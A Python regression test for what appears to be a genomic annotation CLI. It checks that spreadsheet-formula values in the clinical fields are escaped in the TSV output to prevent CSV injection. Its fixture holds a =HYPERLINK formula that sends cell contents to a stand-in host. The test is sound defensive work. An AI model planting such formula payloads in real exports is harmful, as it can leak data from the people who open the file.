"""A clinical `patient_id` of `=HYPERLINK(…)` reached the TSV as a cell that a spreadsheet runs as a
formula (issue 17, item 10). A text cell beginning with `=`, `+`, `-` or `@` now gets a leading
apostrophe (OWASP's CSV-injection advice); numbers are left alone."""

from __future__ import annotations

import csv
import io

from conftest import EXAMPLES, run_cli


def test_a_formula_patient_id_is_written_as_text(tmp_path):
    clinical = tmp_path / "c.yaml"
    clinical.write_text('patient_id: \'=HYPERLINK("http://example.invalid/?"&A1,"open")\'\n')
    out = tmp_path / "r.tsv"
    result = run_cli(
        "annotate",
        "--vcf",
        str(EXAMPLES / "P03_L1196M_after_crizotinib.GRCh37.vcf"),
        "--clinical",
        str(clinical),
        "-o",
        str(tmp_path / "r.json"),
        "--tsv",
        str(out),
    )
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")), delimiter="\t"))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")) and not (
                value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit()
            )
        assert row["patient_id"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"open")'
